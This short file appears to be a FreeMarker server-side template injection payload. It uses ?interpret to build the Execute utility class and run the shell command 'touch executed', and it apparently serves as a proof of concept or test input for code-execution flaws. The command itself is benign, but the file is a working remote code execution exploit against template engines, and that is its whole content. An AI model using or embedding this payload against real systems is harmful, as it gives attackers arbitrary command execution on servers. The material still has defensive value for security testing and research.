<#assign run = r'${"freemarker.template.utility.Execute"?new()("touch executed")}'?interpret>
<@run />
